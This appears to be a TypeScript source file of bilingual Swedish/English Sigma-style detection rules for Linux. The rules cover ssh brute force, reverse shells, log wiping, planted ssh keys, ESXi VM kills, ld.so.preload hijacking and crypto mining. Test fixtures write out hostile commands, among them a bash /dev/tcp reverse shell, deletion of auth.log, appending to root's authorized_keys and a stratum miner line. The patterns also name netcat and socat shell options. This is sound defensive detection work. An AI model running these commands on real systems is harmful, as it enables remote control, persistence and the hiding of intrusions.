/** Rules of Linux: sign-ins over ssh, shells that call out, traces removed, hosts of machines. */
import { linuxStart, type OwnDetection, rule, say, spaced, syslog } from "./detection.ts";

const programs = "product: linux, category: process_creation";

/** The rules. */
export const linuxDetections: readonly OwnDetection[] = [
  rule({
    number: 120,
    title: say("Lösenord prövas över ssh", "Passwords are tried over ssh"),
    level: "medium",
    techniques: ["T1110.001"],
    source: "product: linux, service: sshd",
    detection: `
  keywords:
    - 'Failed password for'
    - 'Invalid user'
  condition: keywords`,
    correlation: `
  type: event_count
  group-by: [hostname]
  timespan: 5m
  condition: { gte: 30 }`,
    means: say("Någon gissar lösenord mot servern.", "Somebody guesses passwords on the server."),
    falsePositives: say("En tjänst med gammalt lösenord.", "A service with an old password."),
    firstAction: say(
      "Stäng ssh utåt, tillåt bara nycklar.",
      "Shut ssh to the outside; allow keys alone.",
    ),
    fires: [
      spaced(30, 5, (n) =>
        syslog("sshd", `Failed password for root from 203.0.113.5 port ${n} ssh2`),
      ),
    ],
    rests: [
      spaced(29, 5, (n) =>
        syslog("sshd", `Failed password for root from 203.0.113.5 port ${n} ssh2`),
      ),
    ],
  }),
  rule({
    number: 121,
    title: say("root loggar in med lösenord över ssh", "root signs in by password over ssh"),
    level: "medium",
    techniques: ["T1021.004"],
    source: "product: linux, service: sshd",
    detection: `
  keywords:
    - 'Accepted password for root'
  condition: keywords`,
    means: say(
      "Det högsta kontot används direkt, utan nyckel.",
      "The highest account is used straight, without a key.",
    ),
    falsePositives: say("Apparater utan andra konton.", "Appliances with no other account."),
    firstAction: say("Var det ni? Stäng möjligheten.", "Was it you? Shut the way."),
    fires: [[syslog("sshd", "Accepted password for root from 10.0.0.9 port 50122 ssh2")]],
    rests: [
      [syslog("sshd", "Accepted publickey for drift from 10.0.0.9 port 50122 ssh2: ED25519")],
    ],
  }),
  rule({
    number: 122,
    title: say("Ett skal ringer ut", "A shell calls out"),
    level: "critical",
    techniques: ["T1059.004"],
    source: programs,
    detection: `
  bash:
    CommandLine|contains: ['/dev/tcp/', '/dev/udp/']
  nc:
    Image|endswith: ['/nc', '/ncat', '/netcat', '/socat']
    CommandLine|contains: [' -e ', ' -c ', 'exec:']
  script:
    CommandLine|contains|all: ['socket', 'subprocess', 'connect']
  condition: bash or nc or script`,
    means: say("Någon utanför styr servern.", "Somebody outside controls the server."),
    falsePositives: say("Övning.", "An exercise."),
    firstAction: say(
      "Skilj servern från nätet, stäng inte av den.",
      "Take the server off the network; do not turn it off.",
    ),
    fires: [[linuxStart("/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.5/443 0>&1")]],
    rests: [[linuxStart("/bin/nc", "nc -z srv-db1 5432")]],
  }),
  rule({
    number: 123,
    title: say(
      "En webbserver i Linux startar ett kommando",
      "A web server on Linux starts a command",
    ),
    level: "high",
    techniques: ["T1505.003"],
    source: programs,
    detection: `
  parent:
    ParentImage|endswith: ['/apache2', '/httpd', '/nginx', '/php-fpm', '/php-fpm8.2', '/java',
      '/node']
  child:
    Image|endswith: ['/whoami', '/id', '/uname', '/wget', '/curl', '/nc', '/ncat']
  user:
    User: ['www-data', 'apache', 'nginx', 'tomcat']
  condition: parent and child and user`,
    means: say("Någon kör kommandon genom en sida.", "Somebody runs commands through a page."),
    falsePositives: say(
      "Webbprogram som hämtar filer med curl.",
      "Web programs that fetch files by curl.",
    ),
    firstAction: say(
      "Stäng sidan utåt, sök nya filer i webbmappen.",
      "Shut the page; look for new files in its folder.",
    ),
    fires: [[linuxStart("/usr/bin/id", "id", { ParentImage: "/usr/sbin/apache2" })]],
    rests: [[linuxStart("/usr/bin/id", "id", { ParentImage: "/bin/bash", User: "drift" })]],
  }),
  rule({
    number: 124,
    title: say("Spår tas bort i Linux", "Tracks are removed on Linux"),
    level: "medium",
    techniques: ["T1070.002", "T1070.003"],
    source: programs,
    detection: `
  log:
    CommandLine|contains: ['/var/log/', '.bash_history', 'wtmp', 'lastlog']
  how:
    Image|endswith: ['/rm', '/shred', '/truncate', '/unlink', '/ln']
  journal:
    CommandLine|contains: ['journalctl --vacuum', 'journalctl --rotate', 'auditctl -e 0',
      'systemctl stop auditd', 'systemctl stop rsyslog']
  condition: (log and how) or journal`,
    means: say("Loggar tas bort eller stängs av.", "Logs are removed or turned off."),
    falsePositives: say("Städning när disken är full.", "Tidying when the disk is full."),
    firstAction: say(
      "Fråga den som gjorde det. Finns loggen samlad någon annanstans?",
      "Ask who did it. Is the log collected elsewhere?",
    ),
    fires: [[linuxStart("/usr/bin/rm", "rm -f /var/log/auth.log", { User: "root" })]],
    rests: [[linuxStart("/usr/bin/tail", "tail -f /var/log/auth.log", { User: "root" })]],
  }),
  rule({
    number: 125,
    title: say("En nyckel till ssh läggs till", "A key to ssh is added"),
    level: "medium",
    techniques: ["T1098.004"],
    source: programs,
    detection: `
  file:
    CommandLine|contains: 'authorized_keys'
  how:
    CommandLine|contains: ['>>', 'tee ', 'echo ', 'sed -i', 'cp ', 'curl ', 'wget ']
  condition: file and how`,
    means: say("Någon ger sig en väg tillbaka.", "Somebody gives themselves a way back."),
    falsePositives: say(
      "Drift som lägger upp en ny kollega.",
      "Operations adding a new colleague.",
    ),
    firstAction: say("Vems nyckel? Ta bort den annars.", "Whose key? Else remove it."),
    fires: [
      [
        linuxStart("/bin/sh", "sh -c echo ssh-ed25519 AAAA x >> /root/.ssh/authorized_keys", {
          User: "root",
        }),
      ],
    ],
    rests: [[linuxStart("/usr/bin/cat", "cat /root/.ssh/authorized_keys", { User: "root" })]],
  }),
  rule({
    number: 126,
    title: say(
      "Virtuella maskiner stängs från värden",
      "Virtual machines are ended from their host",
    ),
    level: "high",
    techniques: ["T1489", "T1486"],
    source: programs,
    detection: `
  esxi:
    CommandLine|contains: ['esxcli vm process kill', 'vim-cmd vmsvc/power.off',
      'vim-cmd vmsvc/snapshot.removeall']
  proxmox:
    CommandLine|contains: ['qm stop', 'qm destroy', 'virsh destroy']
  condition: esxi or proxmox`,
    means: say(
      "Utpressare stänger maskinerna innan de krypterar deras diskar.",
      "Extortionists end the machines before they encrypt their disks.",
    ),
    falsePositives: say(
      "Drift som stänger en hängd maskin.",
      "Operations ending a machine that hangs.",
    ),
    firstAction: say(
      "Är det ni? Annars: skilj värden från nätet, stäng kontot.",
      "Is it you? Else take the host off the network and shut the account.",
    ),
    fires: [
      [
        linuxStart("/bin/sh", "sh -c esxcli vm process kill --type=force --world-id=1", {
          User: "root",
        }),
      ],
    ],
    rests: [[linuxStart("/bin/sh", "sh -c esxcli vm process list", { User: "root" })]],
  }),
  rule({
    number: 127,
    title: say("Ett bibliotek smyger in i alla program", "A library slips into every program"),
    level: "high",
    techniques: ["T1574.006"],
    source: programs,
    detection: `
  selection:
    CommandLine|contains: '/etc/ld.so.preload'
  look:
    Image|endswith: ['/cat', '/ls', '/grep', '/stat']
  condition: selection and not look`,
    means: say(
      "Så göms program och filer för den som letar.",
      "So programs and files are hidden from whoever looks.",
    ),
    falsePositives: say("Mycket ovanligt.", "Very rare."),
    firstAction: say(
      "Servern går inte att lita på: installera om från säker källa.",
      "The server cannot be trusted: set it up anew.",
    ),
    fires: [[linuxStart("/bin/sh", "sh -c echo /lib/x.so > /etc/ld.so.preload", { User: "root" })]],
    rests: [[linuxStart("/usr/bin/cat", "cat /etc/ld.so.preload", { User: "root" })]],
  }),
  rule({
    number: 128,
    title: say("Servern gräver kryptovaluta", "The server mines currency"),
    level: "high",
    techniques: ["T1496"],
    source: programs,
    detection: `
  selection:
    CommandLine|contains: ['stratum+tcp://', 'stratum+ssl://', '--donate-level', 'xmrig']
  condition: selection`,
    means: say(
      "Någon har tagit sig in och använder servern.",
      "Somebody has got in and uses the server.",
    ),
    falsePositives: say("Mycket ovanligt.", "Very rare."),
    firstAction: say(
      "Hur kom det in? Se cron och webbmappen.",
      "How did it get in? See cron and the web folder.",
    ),
    fires: [[linuxStart("/tmp/k", "/tmp/k -o stratum+tcp://pool.example:3333")]],
    rests: [[linuxStart("/usr/bin/top", "top -b -n 1")]],
  }),
];
